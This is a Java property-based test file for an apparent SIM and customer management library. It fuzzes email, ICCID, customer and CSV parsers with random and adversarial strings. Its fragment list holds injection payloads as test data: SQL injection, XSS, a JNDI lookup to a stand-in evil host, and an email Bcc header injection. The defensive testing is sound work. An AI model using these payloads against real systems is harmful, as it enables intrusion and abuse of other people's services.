package io.simestate.core;

import static io.simestate.core.Scenarios.ACME;
import static io.simestate.core.Scenarios.ALICE;
import static org.assertj.core.api.Assertions.assertThat;

import io.simestate.core.Limits;
import io.simestate.core.alert.AlertId;
import io.simestate.core.customer.Contact;
import io.simestate.core.customer.ContactDetails;
import io.simestate.core.customer.Customer;
import io.simestate.core.customer.CustomerDetails;
import io.simestate.core.customer.CustomerId;
import io.simestate.core.customer.CustomerName;
import io.simestate.core.customer.CustomerSummary;
import io.simestate.core.customer.EmailAddress;
import io.simestate.core.estate.SimEstate;
import io.simestate.core.sim.CsvImportReport;
import io.simestate.core.sim.Iccid;
import io.simestate.core.sim.IccidPolicy;
import io.simestate.core.sim.IccidRange;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;

/**
 * Parsing never throws anything but the library's {@link InvalidInputException} (or, for commands on
 * an existing estate, the documented {@link NotFoundException} and {@link ConflictException}), for
 * arbitrary strings; and a refused command stores nothing (DESIGN §6).
 */
class ParsingProperties {

  private static final List<String> FRAGMENTS = List.of(
      "", " ", "\t", "\r\n", "\n", "\r", "\u0000", "\u0007", "\u001b[2J", "\u007f", "\u0085", "\u00a0", "\u00ad",
      "\u200b", "\u200d", "\u202e", "\u2066", "\u2028", "\ufeff", "\ufffd", "\ud800", "\udfff", "\ud83d\udce1",
      "' OR 1=1 --", "Robert'); DROP TABLE customer;--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
      "${jndi:ldap://evil.example/a}", "%s%n%x", "{0}", "{jakarta.validation.constraints.NotNull.message}",
      "..", "...", "@", "@@", "a@b", "a@b.c", "ana@example.com", "ana@example.com\r\nBcc: eve@evil.example",
      "ana@bücher.example", "ana@例え.テスト", "ana@[127.0.0.1]", "xn--", "xn--zz", "ａｂｃ＠ｅｘａｍｐｌｅ．ｃｏｍ",
      "8944500102198304826", "8944 5001 0219 8304 826 F", "89", "89FFFF", "8944500102198304826..8944500102198304834",
      "8900000000000000000..8900000000001999999", "8900000000000000000..8999999999999999999", "-", "F", "ff",
      "iccid,customer", "8944500102198304826,Northwind", "8944500102198304826;", ",", ";", "\"", "\"\"",
      "Northwind", "NORTHWIND", "acme", "123e4567-e89b-12d3-a456-426614174000", "NaN", "-1", "9".repeat(40),
      "me@⒈wouldbeinvalid.com", "test@\u0300.com", "me@yy－－0.tld", "me@xn--0.tld", "ana@valid.invalid", "ẞ", "ᾳ",
      "xn--ls8h", "ana@straße.de", "·", "・", "שלום", "١۱", "\u3164", "ｅｘａｍｐｌｅ", "。");

  /** Pieces of internationalised domains, with the characters IDNA maps, splits or refuses. */
  private static final List<String> DOMAIN_PIECES = List.of(
      ".", "。", "．", "｡", "-", "－", "--", "xn--", "xn--zca", "xn--0", "xn--bcher-kva", "a", "Z", "0", "ß", "ẞ", "ς", "Σ",
      "ü", "Ü", "u\u0308", "\u0300", "\u20dd", "ᾳ", "\u0345", "⒈", "①", "ﬁ", "Ⅻ", "²", "·", "l·l", "・", "カ", "中", "ש",
      "ب", "١", "۱", "\u0640", "\u3164", "\u1100", "♥", "\ud83d\udca9", "\ud800", "\u200d", "\u202e", "\u0000",
      " ", "\u00a0", "ｅ", "Ｅ", "invalid", "onion", "example", "テスト", "рф", "9".repeat(70), "ü".repeat(70));

  @Provide
  Arbitrary<String> unicodeDomains() {
    Arbitrary<String> piece = Arbitraries.oneOf(Arbitraries.of(DOMAIN_PIECES),
        Arbitraries.strings().all().ofMinLength(1).ofMaxLength(4));
    return piece.list().ofMinSize(1).ofMaxSize(12).map(l -> String.join("", l));
  }

  @Provide
  Arbitrary<String> anything() {
    Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(60);
    Arbitrary<String> fragment = Arbitraries.of(FRAGMENTS);
    Arbitrary<String> mixed = fragment.list().ofMinSize(1).ofMaxSize(5).map(l -> String.join("", l));
    Arbitrary<String> huge = Arbitraries.oneOf(
        Arbitraries.strings().all().ofLength(10_000),
        fragment.map(f -> (f.isEmpty() ? "x" : f).repeat(10_000 / Math.max(1, f.length()) + 1)),
        fragment.map(f -> "8" + "9".repeat(9_999) + f));
    Arbitrary<String> nearValid = Combinators.combine(fragment, any, Arbitraries.integers().between(0, 100))
        .as((seed, noise, at) -> {
          int p = seed.isEmpty() ? 0 : at % seed.length();
          return seed.substring(0, p) + noise + seed.substring(p);
        });
    return Arbitraries.frequencyOf(Tuple.of(4, any), Tuple.of(3, mixed), Tuple.of(3, nearValid),
        Tuple.of(1, huge), Tuple.of(1, Arbitraries.just(null)));
  }

  /** Runs a parse step; passes if it returns or throws the library's invalid-input exception. */
  private static void onlyInvalidInput(Supplier<?> parse) {
    try {
      parse.get();
    } catch (InvalidInputException e) {
      assertThat(e.violations()).isNotEmpty();
      assertThat(e.getMessage()).isNotBlank();
    }
  }

  // ---- value types ------------------------------------------------------------------------------

  @Property
  void emailAddressParse(@ForAll("anything") String text) {
    onlyInvalidInput(() -> EmailAddress.parse(text));
    assertThat(EmailAddress.isValid(text)).isIn(true, false);
  }

  @Property(tries = 2000)
  void emailAddressParseOfInternationalisedDomains(@ForAll("unicodeDomains") String domain) {
    onlyInvalidInput(() -> EmailAddress.parse("ana@" + domain));
    onlyInvalidInput(() -> new EmailAddress("ana", domain));
    if (EmailAddress.isValid("ana@" + domain)) {
      EmailAddress email = EmailAddress.parse("ana@" + domain);
      assertThat(EmailAddress.parse(email.displayed())).isEqualTo(email);
    }
  }

  @Property
  void iccidParseLenient(@ForAll("anything") String text) {
    onlyInvalidInput(() -> Iccid.parse(text));
  }

  @Property
  void iccidParseStrict(@ForAll("anything") String text) {
    onlyInvalidInput(() -> Iccid.parse(text, IccidPolicy.STRICT));
    onlyInvalidInput(() -> IccidPolicy.STRICT.parse(text));
  }

  @Property
  void iccidRangeParse(@ForAll("anything") String text, @ForAll("anything") String other) {
    onlyInvalidInput(() -> IccidRange.parse(text));
    onlyInvalidInput(() -> IccidRange.parse(text + ".." + other));
    onlyInvalidInput(() -> IccidRange.parse("8944500102198304826.." + other));
  }

  @Property
  void customerNameParse(@ForAll("anything") String text) {
    onlyInvalidInput(() -> CustomerName.parse(text));
  }

  @Property
  void tenantIdOf(@ForAll("anything") String text) {
    onlyInvalidInput(() -> TenantId.of(text));
  }

  @Property
  void alertIdOf(@ForAll("anything") String text) {
    onlyInvalidInput(() -> AlertId.of(text));
  }

  @Property
  void actorAndIdentifiers(@ForAll("anything") String text) {
    onlyInvalidInput(() -> Actor.of(text));
    onlyInvalidInput(() -> CustomerId.parse(text));
    onlyInvalidInput(() -> io.simestate.core.customer.ContactId.parse(text));
  }

  // ---- commands on an existing estate -----------------------------------------------------------

  private final SimEstate estate = Scenarios.estate();
  private final Customer northwind = estate.customers().create(ACME, ALICE, CustomerDetails.named("Northwind"));
  private final Contact ana = estate.customers().addContact(ACME, ALICE, northwind.id(),
      ContactDetails.alerted("Ana", "ana@northwind.example"));

  {
    estate.sims().assign(ACME, ALICE, northwind.id(), Scenarios.iccids(0, 3));
  }

  /** Everything a tenant can read back. */
  private record Snapshot(List<Customer> customers, List<Long> simCounts, List<List<Iccid>> sims, int events) {}

  private Snapshot snapshot() {
    List<Customer> customers = new ArrayList<>();
    List<Long> counts = new ArrayList<>();
    List<List<Iccid>> sims = new ArrayList<>();
    for (CustomerSummary s : estate.customers().list(ACME, null, PageRequest.first(1000)).items()) {
      var report = estate.customers().report(ACME, s.id(), PageRequest.first(1000));
      customers.add(report.customer());
      counts.add(report.simCount());
      sims.add(report.sims().items());
    }
    return new Snapshot(customers, counts, sims, estate.auditTrail().recent(ACME, Limits.HISTORY_SIZE).size());
  }

  /** Runs a command; passes if it succeeds or fails with an expected kind and changed nothing. */
  private void refusedCleanly(Runnable command) {
    Snapshot before = snapshot();
    try {
      command.run();
    } catch (InvalidInputException | NotFoundException | ConflictException e) {
      assertThat(e.getMessage()).isNotBlank();
      assertThat(snapshot()).as("a refused command must store nothing").isEqualTo(before);
    }
  }

  private Customer current() {
    return estate.customers().get(ACME, northwind.id());
  }

  @Property(tries = 200)
  void createCustomer(@ForAll("anything") String name, @ForAll("anything") String email,
      @ForAll("anything") String phone, @ForAll("anything") String street, @ForAll("anything") String notes,
      @ForAll("anything") String other) {
    CustomerDetails details = new CustomerDetails(name, street, other, other, other, other, phone, email, other, other,
        notes);
    refusedCleanly(() -> estate.customers().create(ACME, ALICE, details));
  }

  @Property(tries = 200)
  void createCustomerWithOneBadField(@ForAll("anything") String value, @ForAll("fieldIndex") int field) {
    String[] f = new String[11];
    f[0] = "Customer " + System.nanoTime();
    f[field] = value;
    CustomerDetails details = new CustomerDetails(f[0], f[1], f[2], f[3], f[4], f[5], f[6], f[7], f[8], f[9], f[10]);
    refusedCleanly(() -> estate.customers().create(ACME, ALICE, details));
  }

  @Provide
  Arbitrary<Integer> fieldIndex() {
    return Arbitraries.integers().between(0, 10);
  }

  @Property(tries = 200)
  void updateCustomer(@ForAll("anything") String name, @ForAll("anything") String email,
      @ForAll("anything") String other) {
    CustomerDetails details = CustomerDetails.named(name).withPhoneAndEmail(other, email).withExtras(other, other, other);
    refusedCleanly(() -> estate.customers().update(ACME, ALICE, northwind.id(), current().version(), details));
  }

  @Property(tries = 200)
  void addContact(@ForAll("anything") String name, @ForAll("anything") String email, @ForAll("anything") String phone,
      @ForAll("anything") String role, @ForAll boolean alerts) {
    refusedCleanly(() -> estate.customers().addContact(ACME, ALICE, northwind.id(),
        new ContactDetails(name, email, phone, role, alerts, null)));
  }

  @Property(tries = 200)
  void updateContact(@ForAll("anything") String name, @ForAll("anything") String email,
      @ForAll("anything") String phone, @ForAll("anything") String role, @ForAll boolean alerts) {
    refusedCleanly(() -> estate.customers().updateContact(ACME, ALICE, northwind.id(), ana.id(),
        new ContactDetails(name, email, phone, role, alerts, java.util.Set.of(AlertKind.WARNING))));
  }

  @Property(tries = 200)
  void assignList(@ForAll("iccidLists") List<String> iccids) {
    refusedCleanly(() -> estate.sims().assign(ACME, ALICE, northwind.id(), iccids));
  }

  @Property(tries = 200)
  void unassignList(@ForAll("iccidLists") List<String> iccids) {
    refusedCleanly(() -> estate.sims().unassign(ACME, ALICE, iccids));
  }

  @Provide
  Arbitrary<List<String>> iccidLists() {
    return Arbitraries.oneOf(
        anything().injectNull(0.05).list().ofMaxSize(6),
        anything().list().ofMaxSize(5).map(l -> {
          List<String> out = new ArrayList<>(l);
          out.add(Scenarios.iccid(500));
          return out;
        }));
  }

  @Property(tries = 200)
  void importCsvText(@ForAll("anything") String first, @ForAll("anything") String second,
      @ForAll("anything") String third) {
    String csv = String.join("\n", "iccid,customer", first, Scenarios.iccid(700) + "," + second,
        third + ",Northwind", first + "," + third) + "\r\n" + second;
    Snapshot before = snapshot();
    CsvImportReport report;
    try {
      report = estate.sims().importCsv(ACME, ALICE, new StringReader(csv));
    } catch (InvalidInputException refusedFile) {
      // Text that is not CSV (a quote never closed) or not decodable (U+FFFD) refuses the whole file.
      assertThat(refusedFile.violations()).extracting(Violation::field).containsOnly("csv");
      assertThat(snapshot()).isEqualTo(before);
      return;
    }
    assertThat(report.rejected()).allSatisfy(r -> {
      assertThat(r.lineNumber()).isPositive();
      assertThat(r.reason()).isNotBlank();
      assertThat(r.text().length()).isLessThanOrEqualTo(200);
    });
    assertThat(report.rejected().size()).isLessThanOrEqualTo((int) report.lines());
    if (report.assigned() + report.moved() + report.unchanged() == 0) {
      assertThat(snapshot().customers()).isEqualTo(before.customers());
      assertThat(snapshot().sims()).isEqualTo(before.sims());
    }
  }

  @Property(tries = 200)
  void importCsvAnything(@ForAll("anything") String csv) {
    Snapshot before = snapshot();
    try {
      CsvImportReport report = estate.sims().importCsv(ACME, ALICE, new StringReader(csv == null ? "" : csv));
      assertThat(report.lines()).isNotNegative();
    } catch (InvalidInputException refusedFile) {
      assertThat(refusedFile.violations()).extracting(Violation::field).containsOnly("csv");
      assertThat(snapshot()).isEqualTo(before);
    }
  }

  @Property(tries = 200)
  void importCsvBytes(@ForAll byte[] bytes) {
    Snapshot before = snapshot();
    try {
      CsvImportReport report = estate.sims().importCsv(ACME, ALICE, new java.io.ByteArrayInputStream(bytes));
      assertThat(report.lines()).isNotNegative();
    } catch (InvalidInputException refusedFile) {
      assertThat(refusedFile.violations()).extracting(Violation::field).containsOnly("csv");
      assertThat(refusedFile.getMessage()).contains("line ");
      assertThat(snapshot()).isEqualTo(before);
    }
  }

  @Property(tries = 200)
  void customerOf(@ForAll("anything") String iccid) {
    refusedCleanly(() -> estate.sims().customerOf(ACME, iccid));
  }

  @Property(tries = 200)
  void listSearch(@ForAll("anything") String search) {
    assertThat(estate.customers().list(ACME, search, PageRequest.first(10)).items()).isNotNull();
  }
}
